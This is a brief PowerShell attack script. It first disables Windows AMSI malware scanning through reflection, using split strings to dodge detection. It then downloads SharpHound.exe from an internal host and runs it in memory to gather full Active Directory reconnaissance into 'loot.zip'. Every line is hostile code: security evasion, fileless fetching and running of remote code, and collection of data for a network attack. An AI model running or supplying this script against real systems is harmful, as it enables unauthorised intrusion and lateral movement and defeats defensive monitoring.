$t = [Ref].Assembly.GetType('System.Management.Automation.' + 'Ams' + 'iUtils')
$t.GetField('amsi' + 'InitFailed', 'NonPublic,Static').SetValue($null, $true)

$asm = [Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://172.16.40.12:8080/SharpHound.exe'))
$asm.EntryPoint.Invoke($null, (, [string[]]@('-c', 'All', '--zipfilename', 'loot.zip')))
